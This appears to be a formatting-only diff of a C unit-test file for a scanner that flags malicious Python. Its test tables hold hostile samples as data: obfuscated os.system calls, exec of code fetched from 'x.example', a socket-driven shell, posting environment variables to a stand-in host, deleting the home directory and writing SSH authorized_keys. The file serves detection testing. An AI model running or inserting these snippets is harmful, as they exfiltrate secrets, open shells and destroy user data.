@@ -85,14 +85,14 @@ static void test_rows(void **state)
 			continue; /* its example does not fit in a row: test_limits() */
 		(void)judge(language, rule->hit, strlen(rule->hit), &hit);
 		(void)judge(language, rule->miss, strlen(rule->miss), &miss);
-		is_found = rule->weight == CODE_NOTE ? verifier_finds(rule, rule->hit) :
-						       has_rule(&hit, rule->id);
-		is_missed = rule->weight == CODE_NOTE ? !verifier_finds(rule, rule->miss) :
-							!has_rule(&miss, rule->id);
+		is_found = rule->weight == CODE_NOTE ? verifier_finds(rule, rule->hit)
+						     : has_rule(&hit, rule->id);
+		is_missed = rule->weight == CODE_NOTE ? !verifier_finds(rule, rule->miss)
+						      : !has_rule(&miss, rule->id);
 		if (!is_found || !is_missed) {
 			print_message("%s: %s\n", rule->id,
-				      is_found ? "its other example is found, too" :
-						 "its example is not found");
+				      is_found ? "its other example is found, too"
+					       : "its example is not found");
 			failed++;
 		}
 	}
@@ -110,7 +110,8 @@ static const struct {
 	{"__import__('os').system(x)", VERDICT_MALICIOUS},
 	{"__import__('o' + 's').system(x)", VERDICT_MALICIOUS},
 	{"m = __import__('os')\nm.system('whoami')", VERDICT_SUSPICIOUS},
-	{"import importlib\nimportlib.import_module('subprocess').call(x, shell=True)", VERDICT_MALICIOUS},
+	{"import importlib\nimportlib.import_module('subprocess').call(x, shell=True)",
+	 VERDICT_MALICIOUS},
 	{"import os\ngetattr(os, 'sys' + 'tem')(x)", VERDICT_MALICIOUS},
 	{"import os\ngetattr(os, 'metsys'[::-1])(x)", VERDICT_MALICIOUS},
 	{"import os\ngetattr(os, ''.join(['sys', 'tem']))(x)", VERDICT_MALICIOUS},
@@ -118,10 +119,12 @@ static const struct {
 	{"import os\ngetattr(os, 'sys%s' % 'tem')(x)", VERDICT_MALICIOUS},
 	{"import os\na = 'sys'\ngetattr(os, f'{a}tem')(x)", VERDICT_MALICIOUS},
 	{"import os\ngetattr(os, bytes.fromhex('73797374656d').decode())(x)", VERDICT_MALICIOUS},
-	{"import os, base64\ngetattr(os, base64.b64decode('c3lzdGVt').decode())(x)", VERDICT_MALICIOUS},
+	{"import os, base64\ngetattr(os, base64.b64decode('c3lzdGVt').decode())(x)",
+	 VERDICT_MALICIOUS},
 	{"import os\ngetattr(os, chr(115)+chr(121)+chr(115)+chr(116)+chr(101)+chr(109))(x)",
 	 VERDICT_MALICIOUS},
-	{"import os\ngetattr(os, ''.join(map(chr, [115, 121, 115, 116, 101, 109])))(x)", VERDICT_MALICIOUS},
+	{"import os\ngetattr(os, ''.join(map(chr, [115, 121, 115, 116, 101, 109])))(x)",
+	 VERDICT_MALICIOUS},
 	{"import os\ngetattr(os, ''.join(chr(c) for c in [115, 121, 115, 116, 101, 109]))(x)",
 	 VERDICT_MALICIOUS},
 	{"import os, codecs\ngetattr(os, codecs.decode('flfgrz', 'rot13'))(x)", VERDICT_MALICIOUS},
@@ -139,13 +142,17 @@ static const struct {
 	 "pty.spawn(\\\"sh\\\")')\")",
 	 VERDICT_MALICIOUS},
 	{"exec(__import__('base64').b64decode('aW1wb3J0IG9z'))", VERDICT_MALICIOUS},
-	{"import zlib, base64\nexec(zlib.decompress(base64.b64decode(b'eJw=')))", VERDICT_MALICIOUS},
-	{"import urllib.request as r\nexec(r.urlopen('http://x.example/a').read())", VERDICT_MALICIOUS},
-	{"import requests\ndef get():\n    return requests.get(u).text\nexec(get())", VERDICT_MALICIOUS},
+	{"import zlib, base64\nexec(zlib.decompress(base64.b64decode(b'eJw=')))",
+	 VERDICT_MALICIOUS},
+	{"import urllib.request as r\nexec(r.urlopen('http://x.example/a').read())",
+	 VERDICT_MALICIOUS},
+	{"import requests\ndef get():\n    return requests.get(u).text\nexec(get())",
+	 VERDICT_MALICIOUS},
 	{"def run(c):\n    import subprocess\n    subprocess.run(c, shell=True)\nimport socket\n"
 	 "s = socket.socket()\nrun(s.recv(10))",
 	 VERDICT_MALICIOUS},
-	{"import os, requests\nrequests.post('https://x.example', data=str(os.environ))", VERDICT_MALICIOUS},
+	{"import os, requests\nrequests.post('https://x.example', data=str(os.environ))",
+	 VERDICT_MALICIOUS},
 	{"import shutil, os\nshutil.rmtree(os.path.expanduser('~'))", VERDICT_MALICIOUS},
 	{"from pathlib import Path\nimport shutil\nshutil.rmtree(Path.home())", VERDICT_MALICIOUS},
 	{"from pathlib import Path\n(Path.home() / '.ssh' / 'authorized_keys').write_text(k)",
@@ -160,8 +167,8 @@ static void test_hidden(void **state)
 	(void)state;
 	for (size_t i = 0; i < ARRAY_LEN(hidden_rows); i++) {
 		AUTO(findings_done) struct findings f = {0};
-		enum verdict_kind got = judge(CODE_PYTHON, hidden_rows[i].text,
-					      strlen(hidden_rows[i].text), &f);
+		enum verdict_kind got =
+			judge(CODE_PYTHON, hidden_rows[i].text, strlen(hidden_rows[i].text), &f);
 
 		if (got >= hidden_rows[i].want)
 			continue;
@@ -203,7 +210,8 @@ static void test_plain(void **state)
 
 		if (got == VERDICT_SAFE)
 			continue;
-		print_message("%s (%s): %s\n", verdict_name(got), f.items[0].rule, plain_rows[i].text);
+		print_message("%s (%s): %s\n", verdict_name(got), f.items[0].rule,
+			      plain_rows[i].text);
 		failed++;
 	}
 	assert_int_equal(failed, 0);
@@ -219,9 +227,11 @@ static void fill(char *p, size_t len, const char *unit)
 
 static void test_limits(void **state)
 {
-	static const char *const units[] = {"(", "[", "{", "x(", "\"a\"+", "a.", "f'{", "lambda:", "\\",
-					    "if x:\n ", "\xff\x00\xfe", "getattr(a,'b')+", "x=x+x\n",
-					    "def f(", "exec('", "`", "\xe2\x80\x8b", "/*", "a=b="};
+	static const char *const units[] = {
+		"(",       "[",       "{",      "x(",       "\"a\"+",       "a.",
+		"f'{",     "lambda:", "\\",     "if x:\n ", "\xff\x00\xfe", "getattr(a,'b')+",
+		"x=x+x\n", "def f(",  "exec('", "`",        "\xe2\x80\x8b", "/*",
+		"a=b="};
 	size_t len = (size_t)64 * 1024;
 	AUTO_FREE char *text = malloc((size_t)LIMIT_CODE_BYTES + 1);
 
@@ -266,8 +276,9 @@ static void test_lines(void **state)
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
-		cmocka_unit_test(test_rows),  cmocka_unit_test(test_hidden), cmocka_unit_test(test_plain),
-		cmocka_unit_test(test_lines), cmocka_unit_test(test_limits),
+		cmocka_unit_test(test_rows),   cmocka_unit_test(test_hidden),
+		cmocka_unit_test(test_plain),  cmocka_unit_test(test_lines),
+		cmocka_unit_test(test_limits),
 	};
 
 	return cmocka_run_group_tests(tests, NULL, NULL);
